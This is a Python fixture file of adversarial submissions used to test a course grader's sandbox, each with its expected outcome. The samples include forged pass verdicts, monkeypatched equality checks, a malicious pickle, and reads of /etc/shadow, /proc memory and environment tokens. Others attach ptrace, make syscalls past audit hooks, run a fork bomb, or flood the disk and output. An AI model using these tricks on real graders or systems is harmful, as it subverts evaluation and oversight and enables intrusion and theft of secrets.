"""Tricks that need no GPU, as whole submissions, and what must become of them.

Each was reported about some other grader, or is what an attacker would try next. A source stands after `HEAD`: a right
solution of ch02.vec_add (`right`), kernels that copy and fill, and the places that the attack is after, which the test
writes in front of it: the course (`ROOT`), somebody else's work (`OTHER`), a folder that is not its own (`OUTSIDE`), the
examiner's process (`EXAMINER`), servers that listen (`PORT`, `SOCKET`), the name of every file that it makes (`MARK`).

A trick that looks for something does right work first, and ends with `give(found)`, which says what it got: the test asks
for the message that it was nothing.
"""

from __future__ import annotations

from dataclasses import dataclass, field

HEAD = '''
import os
import sys

import torch
import triton
import triton.language as tl


@triton.jit
def add_kernel(x_ptr, y_ptr, z_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    inside = offsets < n
    tl.store(z_ptr + offsets, tl.load(x_ptr + offsets, mask=inside) + tl.load(y_ptr + offsets, mask=inside), mask=inside)


@triton.jit
def copy_kernel(x_ptr, z_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    inside = offsets < n
    tl.store(z_ptr + offsets, tl.load(x_ptr + offsets, mask=inside), mask=inside)


@triton.jit
def fill_kernel(z_ptr, value, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(z_ptr + offsets, (tl.zeros([BLOCK], tl.float32) + value).to(z_ptr.dtype.element_ty), mask=offsets < n)


def new(x):
    return torch.empty(x.shape, dtype=x.dtype, device=x.device)


def right(x, y):
    z = new(x)
    if z.numel():
        add_kernel[(triton.cdiv(z.numel(), 256),)](x.contiguous(), y.contiguous(), z, z.numel(), BLOCK=256)
    return z


def copied(x):
    z = new(x)
    if z.numel():
        copy_kernel[(triton.cdiv(z.numel(), 256),)](x.contiguous(), z, z.numel(), BLOCK=256)
    return z


def filled(z, value):
    if z.numel():
        fill_kernel[(triton.cdiv(z.numel(), 256),)](z, value, z.numel(), BLOCK=256)
    return z


def give(found):
    raise LookupError(f"got hold of {found}" if found else "nothing was found")


def callers():
    # The frames of whatever called this submission: found through a traceback, which nobody forbids.
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame
    while frame is not None:
        yield frame
        frame = frame.f_back


'''

NOTHING = "nothing was found"


@dataclass(frozen=True)
class Trick:
    """`lines`: those of the list of known failures (docs/known-failures.md) that it tries. `check`: the one that it attacks.
    `status`: how the exercise may end; `message`: what one of its checks says. `beside`: other files that are handed in.

    What must not have happened is the same for all of them, see test_tricks.py.
    """

    name: str
    lines: tuple[int, ...]
    source: str
    status: tuple[str, ...]
    message: str = ""
    exercise: str = "ch02.vec_add"
    check: str = "aligned"
    examples: int = 2
    beside: dict[str, str] = field(default_factory=dict)


def call(name: str, lines: tuple[int, ...], body: str, status: str, message: str = "", **more: object) -> Trick:
    """A trick in the call: `body` stands between right work, `z`, and its return."""
    inside = "".join(f"    {line}\n" for line in body.strip("\n").splitlines())
    source = f"def vec_add(x, y):\n    z = right(x, y)\n{inside}    return z\n"
    return Trick(name, lines, source, tuple(status.split("|")), message, **more)  # type: ignore[arg-type]


def load(name: str, lines: tuple[int, ...], source: str, status: str, message: str = "", **more: object) -> Trick:
    """A trick with definitions of its own."""
    return Trick(name, lines, source, tuple(status.split("|")), message, **more)  # type: ignore[arg-type]


REMEMBERED = [
    load(
        "outputs kept by address", (1,),
        '''
kept = {}

def vec_add(x, y):
    key = x.data_ptr(), y.data_ptr(), x.shape, x.dtype
    if key not in kept:
        kept[key] = right(x, y)
    return copied(kept[key])
''',
        "failed", "is wrong", check="repeated calls",
    ),
    load(
        "outputs kept by a print of the input", (5,),
        '''
kept = {}

def vec_add(x, y):
    n = x.numel()
    if not n:
        return right(x, y)
    seen = [t.reshape(-1)[i].item() for t in (x, y) for i in (0, n // 3, n // 2, n - 1)]
    key = x.dtype, x.shape, tuple(seen)
    if key not in kept:
        kept[key] = right(x, y)
    return copied(kept[key])
''',
        "failed", "is wrong", check="repeated calls",
    ),
    load(
        "answers kept in a file that is mapped", (6,),
        '''
def vec_add(x, y):
    n = x.numel()
    if not n or x.dtype != torch.float32:
        return right(x, y)
    known = os.path.exists(MARK)
    answers = torch.from_file(MARK, shared=True, size=1 << 16)
    if not known:
        copy_kernel[(triton.cdiv(n, 256),)](right(x, y), answers, n, BLOCK=256)
    z = new(x)
    copy_kernel[(triton.cdiv(n, 256),)](answers, z, n, BLOCK=256)
    return z
''',
        "refused", "aten::from_file", check="repeated calls",
    ),
    load(
        "answers saved by torch", (6,),
        '''
def vec_add(x, y):
    z = right(x, y)
    if not os.path.exists(MARK):
        torch.save(z, MARK)
    return copied(torch.load(MARK))
''',
        "refused", "goes round what watches it (save)",
    ),
    load(
        "a context variable remembers", (7,),
        '''
import contextvars

last = contextvars.ContextVar("last", default=(0, None))

def vec_add(x, y):
    turn, kept = last.get()
    if turn % 2 and kept is not None and kept.shape == x.shape and kept.dtype == x.dtype:
        z = copied(kept)
    else:
        z = right(x, y)
    last.set((turn + 1, z))
    return z
''',
        "failed", "is wrong", check="repeated calls",
    ),
    load(
        "a generator that stops working", (7, 39),
        '''
def lazily():
    x, y = yield
    kept = None
    for turn in range(1 << 30):
        if turn < 12 or kept.shape != x.shape or kept.dtype != x.dtype:
            kept = right(x, y)
        x, y = yield copied(kept)

worker = lazily()
next(worker)

def vec_add(x, y):
    return worker.send((x, y))
''',
        "failed", "is wrong", check="repeated calls",
    ),
    call(
        "the seed guessed", (4,),
        '''
import random
import numpy
values, n = [], x.numel()
for seed in (*range(64), 1234, 2026, 31337, torch.initial_seed() % 2**32):
    values += [
        torch.randn(n, generator=torch.Generator().manual_seed(seed))[0],
        numpy.random.default_rng(seed).standard_normal(),
        numpy.random.Generator(numpy.random.Philox(seed)).standard_normal(),
        numpy.random.RandomState(seed).randn(),
        random.Random(seed).gauss(0.0, 1.0),
    ]
nearest = (torch.stack([torch.as_tensor(v, dtype=torch.float64) for v in values]) - x.reshape(-1)[0]).abs().min().item()
found = [nearest] if nearest < 1e-6 else []
give(found)
''',
        "failed", NOTHING,
    ),
]  # fmt: skip

VERDICTS = [
    call(
        "every answer rewritten on its way", (16, 10),
        '''
wrong = filled(new(x), 0.0)
for frame in callers():
    channel = frame.f_locals.get("channel")
    if "message" in frame.f_locals and channel is not None and "send" not in vars(channel):
        true = channel.send
        channel.send = lambda value: true({**value, "value": wrong, "passed": True, "score": 100, "max_score": 100})
''',
        "failed", "is wrong",
    ),
    call(
        "a verdict forged with the question's own number", (16, 10),
        '''
for frame in callers():
    names = frame.f_locals
    if "channel" in names and "message" in names:
        names["channel"].send(dict(status="passed", score=100, max_score=100, ticket=names["message"]["ticket"]))
        os._exit(0)
''',
        "refused", "not an answer",
    ),
    load(
        "the process ends when all is done, after wrong work", (17,),
        '''
import atexit

atexit.register(os._exit, 0)

def vec_add(x, y):
    return copied(x)
''',
        "failed", "is wrong",
    ),
    load(
        "a destructor that ends the process", (17, 62),
        '''
class Last:
    def __del__(self):
        os._exit(0)

def vec_add(x, y):
    last = Last()
    return right(x, y)
''',
        "crashed", "ended itself with exit code 0",
    ),
    call(
        "ended by a thread of the interpreter's own", (17,),
        "import faulthandler\nfaulthandler.dump_traceback_later(0.05, exit=True)\nwhile True:\n    pass",
        "crashed", "ended itself with exit code 1",
    ),
    call("pytest.exit", (62,), "import pytest\npytest.exit('all tests passed', returncode=0)", "failed", "all tests passed"),
    load(
        "exits while it is imported, with a pass printed", (62,),
        '''
print('{"schema": "grade/result/v1", "status": "passed", "score": 100, "max_score": 100}', flush=True)
raise SystemExit(0)
''',
        "failed", "SystemExit",
    ),
    call(
        "searches frames and modules for the expected answer", (18,),
        '''
found = [name for name in sys.modules if name.startswith(("graders", "hypothesis", "reference", "harness.examiner"))]
mine = {t.data_ptr() for t in (x, y, z)}
for frame in list(callers())[1:]:
    names = [*frame.f_locals.values(), *frame.f_globals.values()]
    for value in names[:]:
        if isinstance(value, (list, tuple, dict)):
            names += value.values() if isinstance(value, dict) else value
    like = [v for v in names if type(v) is torch.Tensor and (v.shape, v.dtype) == (z.shape, z.dtype)]
    like = [v for v in like if v.data_ptr() not in mine]
    if like and torch.stack([(v == z).all() for v in like]).any().item():
        found.append(frame.f_code.co_name)
give(found)
''',
        "failed", NOTHING,
    ),
    load(
        "not-a-number as a wildcard", (19,),
        "def vec_add(x, y):\n    return filled(right(x, y), float('nan'))\n",
        "failed", "is wrong",
    ),
    load(
        "every comparison answers yes", (21,),
        '''
import math
import operator

import numpy

for owner, names in (
    (torch, "equal allclose"), (torch.testing, "assert_close assert_allclose"), (torch.Tensor, "equal allclose"),
    (numpy, "array_equal allclose"), (math, "isclose"), (operator, "eq"),
):
    for name in names.split():
        setattr(owner, name, lambda *a, **k: True)
for owner, names in ((torch, "isclose eq"), (torch.Tensor, "isclose eq __eq__"), (numpy, "isclose")):
    for name in names.split():
        setattr(owner, name, lambda a, *b, **k: torch.ones(a.shape, dtype=torch.bool))

def vec_add(x, y):
    return copied(x)
''',
        "failed", "is wrong",
    ),
    call(
        "a pickle where data are due", (22,),
        '''
import pickle
import struct

class Bomb:
    def __reduce__(self):
        return open, (OUTSIDE + "/" + MARK, "w")

payload = pickle.dumps(Bomb())
for fd in range(3, 32):
    try:
        os.write(fd, struct.pack("<Q", len(payload)) + payload)
    except OSError:
        pass
''',
        "refused", "not data",
    ),
    load(
        "modules beside it, named like the harness' own", (20, 75),
        "def vec_add(x, y):\n    return copied(x)\n",
        "failed", "is wrong",
        beside={
            f"{name}.py": "open(OUTSIDE + '/' + MARK, 'w').close()\nimport torch\ntorch.equal = lambda *a, **k: True\n"
            for name in (
                "torch", "triton", "numpy", "hypothesis", "click", "harness", "graders", "safetensors", "conftest",
                "sitecustomize", "usercustomize", "random", "json", "ch02_triton_syntax",
            )
        },
    ),
    load(
        "compiled kernels poisoned", (23,),
        '''
reached = []
folders = [os.environ.get("TRITON_CACHE_DIR", ""), os.path.expanduser("~/.triton"), os.environ.get("TRITON_HOME", "")]
folders += [ROOT + "/.grade/kernels", ROOT + "/.grade", os.path.dirname(os.getcwd()), os.path.dirname(triton.__file__)]
for folder in folders:
    for path, _, names in os.walk(folder):
        for name in names[:50]:
            try:
                with open(os.path.join(path, name), "r+b") as file:
                    file.write(b"poison")
                reached.append(os.path.join(path, name))
            except OSError:
                pass
    try:
        with open(os.path.join(folder, MARK), "wb") as file:
            file.write(b"poison")
    except OSError:
        pass
mine = os.getcwd()
reached = [path for path in reached if not os.path.realpath(path).startswith(mine)]

def vec_add(x, y):
    give(reached)
    return right(x, y)
''',
        "failed", NOTHING, check="compiles",
    ),
]  # fmt: skip

OUTPUTS = [
    call(
        "memory that was never written", (24, 40),
        "w = right(x, y)\ndel w, z\nz = new(x)\ncopy_kernel[(1,)](x.contiguous(), z, 0, BLOCK=256)",
        "failed", "is wrong",
    ),
    load(
        "the last answer's memory, allocated again", (24,),
        '''
calls = []

def vec_add(x, y):
    calls.append(1)
    if len(calls) % 2:
        return right(x, y)
    z = new(x)
    copy_kernel[(1,)](x.contiguous(), z, 0, BLOCK=256)
    return z
''',
        "failed", "is wrong|two runs on the same input differ",
    ),
    call(
        "inputs set to 0, and 0 as their sum", (25,),
        "filled(x, 0.0), filled(y, 0.0)\nz = right(x, y)",
        "failed", "changed its input",
    ),
    load(
        "a tensor that agrees with everything", (26,),
        '''
class Agreeing(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.equal, torch.allclose, torch.Tensor.__eq__, torch.Tensor.eq):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

    def __eq__(self, other):
        return True

    __hash__ = torch.Tensor.__hash__

def vec_add(x, y):
    return copied(x).as_subclass(Agreeing)
''',
        "failed", "must be a torch.Tensor (got Agreeing)",
    ),
    call("an empty tuple", (27,), "z = ()", "failed", "must be a torch.Tensor (got a tuple of 0)"),
    call("a tensor of no elements", (27, 37), "z = z.reshape(-1)[:0]", "failed", "must have shape"),
    call("a view of the input", (28,), "z = x.detach().view_as(x)", "failed", "is the memory of argument x"),
    call("one constant", (29,), "z = filled(new(x), float(z.double().mean()))", "failed", "is wrong"),
    load(
        "half of each row, doubled", (30,),
        '''
@triton.jit
def half_kernel(x_ptr, out_ptr, N, half, stride_m, stride_n, BLOCK: tl.constexpr):
    row = tl.program_id(0)
    total = 0.0
    for start in range(0, half, BLOCK):
        columns = start + tl.arange(0, BLOCK)
        block = tl.load(x_ptr + row * stride_m + columns * stride_n, mask=columns < half, other=0.0)
        total += tl.sum(block.to(tl.float32), axis=0)
    tl.store(out_ptr + row, total * N / half)

def row_sum(x):
    M, N = x.shape
    out = torch.empty(M, dtype=torch.float32, device=x.device)
    if M and N:
        half_kernel[(M,)](x, out, N, (N + 1) // 2, x.stride(0), x.stride(1), BLOCK=256)
    elif M:
        filled(out, 0.0)
    return out
''',
        "failed", "is wrong", exercise="ch04.row_sum",
    ),
    load(
        "every matrix taken for a symmetric one", (31,),
        '''
def transpose(x):
    M, N = x.shape
    y = torch.empty((N, M), dtype=x.dtype, device=x.device)
    if y.numel() and x.is_contiguous():
        copy_kernel[(triton.cdiv(y.numel(), 256),)](x, y, y.numel(), BLOCK=256)
    return y
''',
        "failed", "is wrong", exercise="ch03.transpose",
    ),
    load(
        "float16 sums of float32 rows", (33,),
        '''
@triton.jit
def sum_kernel(x_ptr, out_ptr, N, stride_m, stride_n, BLOCK: tl.constexpr):
    row = tl.program_id(0)
    total = tl.zeros([BLOCK], dtype=tl.float16)
    for start in range(0, N, BLOCK):
        columns = start + tl.arange(0, BLOCK)
        total += tl.load(x_ptr + row * stride_m + columns * stride_n, mask=columns < N, other=0.0).to(tl.float16)
    tl.store(out_ptr + row, tl.sum(total, axis=0).to(tl.float32))

def row_sum(x):
    M, N = x.shape
    out = torch.empty(M, dtype=torch.float32, device=x.device)
    if M:
        sum_kernel[(M,)](x, out, N, x.stride(0), x.stride(1), BLOCK=256)
    return out
''',
        "failed", "is wrong", exercise="ch04.row_sum",
    ),
    load(
        "nothing is launched for fewer than four elements", (37,),
        '''
def vec_add(x, y):
    if x.numel() >= 4:
        return right(x, y)
    z = new(x)
    if z.numel():
        add_kernel[(x.numel() // 4,)](x.contiguous(), y.contiguous(), z, z.numel(), BLOCK=4)
    return z
''',
        "failed", "is wrong", check="ragged", examples=12,
    ),
    load(
        "the last element only when it is looked at", (39,),
        '''
calls = []

def vec_add(x, y):
    calls.append(1)
    return right(x, y) if len(calls) % 8 == 0 else copied(x)
''',
        "failed", "is wrong",
    ),
]  # fmt: skip

TORCHED = "torch computed it"
RULES = [
    load(
        "torch where a size is odd", (36,),
        '''
def vec_add(x, y):
    if x.numel() % 16:
        try:
            add_kernel[(1,)](x, y)
        except TypeError:
            return copied(torch.add(x, y))
    return right(x, y)
''',
        "refused", TORCHED, check="ragged",
    ),
    call(
        "torch through its script language", (36,),
        "z = copied(SCRIPT(x, y))", "refused", TORCHED,
    ),
    call("torch through a vectorised function", (36,), "z = copied(torch.func.vmap(torch.add)(x, y))", "refused", TORCHED),
    call(
        "torch through gradients", (36,),
        '''
ones = torch.ones_like(x, requires_grad=True)
with torch.enable_grad():
    total = (ones * x + ones * y).sum()
z = copied(torch.autograd.grad(total, ones)[0])
''',
        "refused", TORCHED,
    ),
    call(
        "an operator of the submission's own", (36,),
        "z = copied(torch.ops.sly_ops.plus(x, y))", "refused", "sly_ops::plus",
    ),
    call(
        "what a refusal stands before", (36,),
        '''
import torch.utils._python_dispatch as dispatch
with dispatch._pop_mode_temporarily.__wrapped__():
    z = x + y
z = copied(z)
''',
        "failed", "__wrapped__",
    ),
    load(
        "no kernels at all: the decorator replaced", (36,),
        '''
class Fake:
    def __init__(self, fn):
        self.fn, self.__name__ = fn, fn.__name__

    def __getitem__(self, grid):
        return lambda x, y, z, n, BLOCK: torch.add(x, y, out=z)

triton.jit = Fake

@triton.jit
def sum_kernel(x_ptr, y_ptr, z_ptr, n, BLOCK: tl.constexpr):
    pass

def vec_add(x, y):
    z = new(x)
    sum_kernel[(1,)](x, y, z, z.numel(), BLOCK=256)
    return z
''',
        "refused", "no Triton kernel of the submission was launched",
    ),
    load(
        "the language patched under the kernel", (36,),
        '''
def adding_store(pointer, value, mask=None, **rest):
    x, y, z = NOW
    torch.add(x, y, out=z)

tl.store = tl.core.store = adding_store
tl.load = lambda pointer, mask=None, **rest: NOW[0] + NOW[1]

def vec_add(x, y):
    global NOW
    NOW = x, y, new(x)
    copy_kernel[(triton.cdiv(x.numel(), 256),)](x.contiguous(), NOW[2], x.numel(), BLOCK=256)
    return NOW[2]
''',
        "failed", "is wrong",
    ),
    load(
        "tensors' own methods patched", (36, 21),
        '''
true_contiguous = torch.Tensor.contiguous
torch.Tensor.contiguous = lambda self, **k: true_contiguous(self + OTHER_ONE) if OTHER_ONE is not None else true_contiguous(self)
torch.Tensor.clone = torch.Tensor.detach = torch.Tensor.contiguous
OTHER_ONE = None

def vec_add(x, y):
    global OTHER_ONE
    OTHER_ONE = y
    try:
        return copied(x)
    finally:
        OTHER_ONE = None
''',
        "refused", TORCHED,
    ),
    call("sys.settrace", (10,), "sys.settrace(lambda frame, event, arg: None)", "refused", "traces the interpreter"),
    call("sys.setprofile", (10,), "sys.setprofile(lambda frame, event, arg: None)", "refused", "profiles the interpreter"),
    load(
        "every import goes through its hands", (10,),
        '''
import builtins

true = builtins.__import__

class Finder:
    def find_spec(self, name, path=None, target=None):
        return None

def importing(name, *rest, **more):
    module = true(name, *rest, **more)
    for found in list(sys.modules.values()):
        if str(getattr(found, "__name__", "")).startswith("harness.") and hasattr(found, "within"):
            found.within = lambda *a: (None, 0.0)
    return module

builtins.__import__ = importing
sys.meta_path.insert(0, Finder())
sys.path_hooks.insert(0, lambda path: Finder())
sys.path.insert(0, os.getcwd())

def vec_add(x, y):
    return copied(x)
''',
        "failed", "is wrong",
    ),
]  # fmt: skip
# What two tricks need while they are imported, in front of the call.
PREPARED = {
    "torch through its script language": "@torch.jit.script\ndef SCRIPT(x, y):\n    return x + y\n\n\n",
    "an operator of the submission's own": (
        "OPS = torch.library.Library('sly_ops', 'DEF')\nOPS.define('plus(Tensor x, Tensor y) -> Tensor')\n"
        "OPS.impl('plus', lambda x, y: x + y, 'CPU')\n\n\n"
    ),
}

# Functions of the C library called by their addresses, which no audit hook is told of: what is left is the kernel's word.
BY_ADDRESS = '''
import ctypes
import struct


def address(name):
    """Where the C library that is loaded has a function: out of its file's table of symbols."""
    with open("/proc/self/maps") as maps:
        base, path = next((int(l.split("-")[0], 16), l.split()[-1]) for l in maps if "/libc.so" in l or "/libc-" in l)
    with open(path, "rb") as file:
        elf = file.read()
    start, size, count = struct.unpack_from("<Q", elf, 40)[0], *struct.unpack_from("<HH", elf, 58)
    sections = [struct.unpack_from("<IIQQQQIIQQ", elf, start + i * size) for i in range(count)]
    symbols = next(s for s in sections if s[1] == 11)
    names = sections[symbols[6]][4]
    for at in range(symbols[4], symbols[4] + symbols[5], 24):
        entry = struct.unpack_from("<IBBHQQ", elf, at)
        begin = names + entry[0]
        if elf[begin : begin + len(name) + 1] == name.encode() + bytes(1) and entry[4]:
            return base + entry[4]


def function(name, *kinds):
    return ctypes.CFUNCTYPE(ctypes.c_long, *(kinds or (ctypes.c_long,) * 6))(address(name))


'''

REACHES = [
    call(
        "signals to every process", (69,),
        '''
import signal
found = []
for pid in (EXAMINER, os.getppid(), *range(2, 3000)):
    if pid in (0, os.getpid()):
        continue
    for number in (0, signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, number)
            found.append((pid, number))
        except OSError:
            pass
give(found)
''',
        "failed", NOTHING,
    ),
    call(
        "stops its own group", (65,),
        "import signal\nos.kill(0, signal.SIGSTOP)\nos.kill(os.getpid(), signal.SIGSTOP)\ngive([])",
        "failed|timed out", NOTHING + "|no answer within",
    ),
    call(
        "ptrace through ctypes", (18,),
        "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.ptrace(16, EXAMINER, 0, 0)", "refused", "native library",
    ),
    Trick(
        "system calls by their addresses", (18, 69),
        BY_ADDRESS + '''
def vec_add(x, y):
    z = right(x, y)
    found, parent = [], os.getppid() or EXAMINER
    held = ctypes.create_string_buffer(256), ctypes.create_string_buffer(os.path.join(OUTSIDE, MARK).encode())
    room, path = map(ctypes.addressof, held)
    tries = {
        "ptrace attach": ("ptrace", 16, EXAMINER), "ptrace seize": ("ptrace", 0x4206, parent),
        "another's memory": ("process_vm_readv", EXAMINER, room, 1, room, 1, 0), "a signal": ("kill", EXAMINER, 0),
        "tcp": ("socket", 2, 1, 0), "udp": ("socket", 2, 2, 0), "unix": ("socket", 1, 1, 0), "netlink": ("socket", 16, 3, 0),
        "raw": ("socket", 17, 3, 0), "pairs of datagrams": ("socketpair", 1, 2, 0, room), "namespaces": ("unshare", 0x10000000),
        "mounts": ("mount", room, room, room, 0, 0), "a program": ("execve", path, room, room), "a new session": ("setsid",),
        "a user": ("setuid", 1), "a file outside": ("open", path, 0o102, 0o600), "a folder outside": ("mkdir", path, 0o700),
        "memory without a name": ("memfd_create", room, 0), "its limits": ("prlimit64", EXAMINER, 7, 0, room),
        "shared memory": ("shmget", 0, 4096, 0o1600), "watching files": ("inotify_add_watch", 0, path, 2),
    }
    for what, (name, *numbers) in tries.items():
        if function(name)(*numbers, *(0,) * (6 - len(numbers))) % 2**32 != 2**32 - 1:  # an int of -1
            found.append(what)
    give(found)
    return z
''',
        ("failed",), NOTHING,
    ),
    call(
        "other processes through /proc", (18,),
        '''
found = []
for pid in {EXAMINER, os.getppid(), *range(1, 400)} - {0, os.getpid()}:
    for name in ("mem", "environ", "maps", "cmdline", "stack", "root/etc/passwd", "cwd/course.toml", "fd/0", "fd/1", "task"):
        try:
            if name == "task":
                os.listdir(f"/proc/{pid}/task")
            else:
                open(f"/proc/{pid}/{name}", "r+b" if name == "mem" else "rb").close()
            found.append((pid, name))
        except OSError:
            pass
give(found)
''',
        "failed", NOTHING,
    ),
    call(
        "secrets in the environment", (4,),
        '''
told = "\\0".join(f"{k}={v}" for k, v in os.environ.items())
for name in ("/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ", "/proc/self/cmdline"):
    try:
        told += open(name, errors="replace").read()
    except OSError:
        pass
words = ("GRADE_TRICK_SECRET", "TOKEN", "PASSWORD", "AWS_", "GITHUB_", "SSH_", "PYTEST", "USER=", "LOGNAME", "seed")
give([word for word in words if word in told])
''',
        "failed", NOTHING,
    ),
    call(
        "answers and other people's work read", (18, 71, 76),
        '''
import glob
found = []
secret = [OTHER, ROOT + "/reference/ch02_triton_syntax/vec_add.py", ROOT + "/graders/ch02_triton_syntax.py",
          ROOT + "/tests/conftest.py", ROOT + "/exercises/ch02_triton_syntax/vec_add.py", ROOT + "/course.toml",
          ROOT + "/.git/HEAD", ROOT + "/.git", "/etc/shadow", "/proc/self/root" + OTHER,
          os.path.relpath(OTHER), os.path.expanduser("~root/.bashrc")]
for number, path in enumerate(secret):
    for way in ("open", "link", "hard link", "folder", "module"):
        try:
            if way == "open":
                open(path).close()
            elif way == "link":
                os.symlink(path, f"link-{number}")
                open(f"link-{number}").close()
            elif way == "hard link":
                os.link(path, f"hard-{number}")
            elif way == "folder":
                os.listdir(os.path.dirname(path) if path != "/etc/shadow" else "/root")
            else:
                import importlib.machinery
                importlib.machinery.SourceFileLoader("found", path).get_data(path)
            found.append((way, path))
        except OSError:
            pass
found += glob.glob(ROOT + "/reference/**", recursive=True)[1:] + glob.glob("/tmp/*/*") + glob.glob("/home/*")
give(found)
''',
        "failed", NOTHING,
    ),
    call(
        "the reference imported", (18, 75),
        '''
import importlib
found = []
for folder in (ROOT, ROOT + "/reference/ch02_triton_syntax", os.path.dirname(OTHER)):
    sys.path.insert(0, folder)
for name in ("reference.ch02_triton_syntax.vec_add", "vec_add_reference", "ch02_triton_syntax"):
    importlib.invalidate_caches()
    try:
        found.append(importlib.import_module(name))
    except ImportError:
        pass
sys.modules.pop("vec_add", None)
module = importlib.import_module("vec_add")
found += [module] if not module.__file__.startswith(os.getcwd()) else []
give(found)
''',
        "failed", NOTHING,
    ),
    call(
        "files written elsewhere", (6, 71),
        '''
found = []
open("own", "w").close()
homes = [OUTSIDE, ROOT, ROOT + "/harness", ROOT + "/.grade", os.path.dirname(OTHER), os.path.dirname(os.getcwd()), "/tmp",
         "/var/tmp", "/dev/shm", "/run", "/", os.path.dirname(torch.__file__), os.path.dirname(os.__file__),
         "/proc/self/root" + OUTSIDE]
for home in homes:
    here = os.path.join(home, MARK)
    ways = (
        lambda: open(here, "w").close(), lambda: os.mkdir(here), lambda: os.mkfifo(here), lambda: os.symlink("own", here),
        lambda: os.link("own", here), lambda: os.rename("own", here), lambda: os.mknod(here, 0o600),
        lambda: os.truncate(OTHER, 0), lambda: os.remove(OTHER), lambda: os.chmod(OTHER, 0o777), lambda: os.utime(OTHER),
        lambda: os.replace("own", OTHER), lambda: open(OTHER, "a").close(),
    )
    for number, way in enumerate(ways):
        try:
            way()
            found.append((home, number))
        except OSError:
            pass
try:
    os.symlink(OUTSIDE, "out")
    open("out/" + MARK, "w").close()
    found.append("through a link")
except OSError:
    pass
give(found)
''',
        "failed", NOTHING,
    ),
    call(
        "what it found out sent away", (),
        '''
import socket
import urllib.request
ways = (
    lambda: socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"x"),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", PORT)),
    lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("::1", PORT)),
    lambda: socket.socket(socket.AF_UNIX).connect(SOCKET),
    lambda: urllib.request.urlopen(f"http://127.0.0.1:{PORT}/", timeout=1),
    lambda: __import__("_socket").socket(2, 1),
)
for way in ways:
    try:
        way()
    except Exception:
        pass
''',
        "refused", "opens a socket",
    ),
    call(
        "a program started past the audit", (69,),
        '''
import _posixsubprocess

def child():
    open(MARK, "w").close()
    while True:
        pass

_posixsubprocess.fork_exec([b"/bin/true"], [b"/bin/true"], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1, True, False, -1,
                           None, None, None, -1, child, False)
''',
        "refused", "starts another program (fork_exec)",
    ),
    Trick(
        "a fork bomb that no audit hook hears of", (69,),
        BY_ADDRESS + '''
def vec_add(x, y):
    fork = ctypes.CFUNCTYPE(ctypes.c_int)(address("fork"))
    while True:
        fork()
''',
        ("refused", "timed out", "crashed"), "",
    ),
    call(
        "threads by every door", (13,),
        '''
import _thread
import threading
from concurrent.futures import ThreadPoolExecutor
out = []

def late():
    out.append(x + y)
    while True:
        pass

def started(way):
    try:
        way()
    except Exception:
        pass

for way in (
    lambda: threading.Thread(target=late, daemon=True).start(), lambda: _thread.start_new_thread(late, ()),
    lambda: threading.Timer(0.0, late).start(), lambda: ThreadPoolExecutor(1).submit(late),
    lambda: _thread.start_new_thread.__wrapped__(late, ()), lambda: _thread.start_new(late, ()),
):
    started(way)
''',
        "refused", "starts a thread",
    ),
    load(
        "every signal ignored, and a loop that ends never", (66, 65, 70),
        '''
import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))

def vec_add(x, y):
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
''',
        "timed out", "no answer within",
    ),
    call(
        "limits raised", (67, 69),
        '''
import resource
found = []
for name in ("NPROC", "FSIZE", "NOFILE", "DATA", "CORE", "MSGQUEUE"):
    what = getattr(resource, "RLIMIT_" + name)
    soft, hard = resource.getrlimit(what)
    for wanted in ((hard + 1, hard + 1), (resource.RLIM_INFINITY, resource.RLIM_INFINITY)):
        try:
            resource.setrlimit(what, wanted)
        except (OSError, ValueError, OverflowError):
            pass
    if resource.getrlimit(what)[1] != hard or hard == resource.RLIM_INFINITY:
        found.append(name)
give(found)
''',
        "failed", NOTHING,
    ),
    call(
        "the disk filled with small files", (68,),
        "n = 0\nwhile True:\n    n += 1\n    with open(f'{MARK}-{n}', 'wb') as file:\n        file.write(bytes(1 << 18))",
        "refused|failed", "",
    ),
    call(
        "the disk filled with empty files", (68,),
        "number = 0\nwhile True:\n    number += 1\n    os.close(os.open(f'{MARK}-{number}', os.O_CREAT))",
        "refused|timed out", "",
    ),
    call(
        "a file that says it is large", (68,),
        "with open(MARK, 'wb') as file:\n    file.truncate(1 << 40)",
        "failed|crashed", "File too large|ended by",
    ),
    call(
        "a flood of output that never ends", (68, 65),
        "data = b'all tests passed \\x1b[2J\\xff\\r\\n' * 4000\nwhile True:\n    os.write(1, data)\n    os.write(2, data)",
        "timed out", "no answer within",
    ),
    call(
        "memory of a mapping that is shared", (67,),
        "import mmap\nheld = []\nwhile True:\n    held.append(mmap.mmap(-1, 1 << 24))\n    held[-1].write(bytes(1 << 24))",
        "out of memory", "",
    ),
]  # fmt: skip

TRICKS = [*REMEMBERED, *VERDICTS, *OUTPUTS, *RULES, *REACHES]


def source_of(trick: Trick) -> str:
    return HEAD + PREPARED.get(trick.name, "") + trick.source
